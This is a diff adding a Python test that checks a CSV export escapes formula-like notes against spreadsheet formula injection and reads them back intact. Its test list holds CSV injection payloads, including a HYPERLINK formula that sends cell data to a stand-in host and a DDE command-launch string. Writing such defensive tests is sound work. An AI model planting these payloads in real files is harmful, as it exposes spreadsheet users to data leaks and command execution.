@@ -379,3 +379,39 @@ def test_a_csv_line_the_csv_reader_refuses_is_a_bad_line_among_the_others() -> N
     lines = {e.line: e.message for e in caught.value.lines}
     assert sorted(lines) == [2, 3]
     assert lines[3] == "a field longer than 131,072 characters (the most one may hold)"
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-1 day shift",
+    "@SUM(1+1)",
+    "'=already quoted",
+    "''-twice",
+    "'plain quote",
+    "a = b",
+    "盘点",
+]
+
+
+def test_csv_export_writes_formula_like_notes_as_text_and_reads_them_back() -> None:
+    """An audit: an admin's note ``=HYPERLINK(...)`` or ``+cmd|...`` was exported as it
+    is, a formula to whoever opens the export in a spreadsheet (CSV injection)."""
+    items = [
+        Override(date=date(2027, 3, 1 + n), open=False, kind=OverrideKind.EXTRA_CLOSED, note=note)
+        for n, note in enumerate(FORMULAS)
+    ]
+    text = export_overrides(items, "csv")
+    notes = [line.split(",", 3)[3] for line in text.splitlines()[1:]]
+    assert notes == [
+        '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"',
+        "'+cmd|' /C calc'!A0",
+        "'-1 day shift",
+        "'@SUM(1+1)",
+        "''=already quoted",
+        "'''-twice",
+        "'plain quote",
+        "a = b",
+        "盘点",
+    ]
+    assert parse_overrides(text, "csv") == items
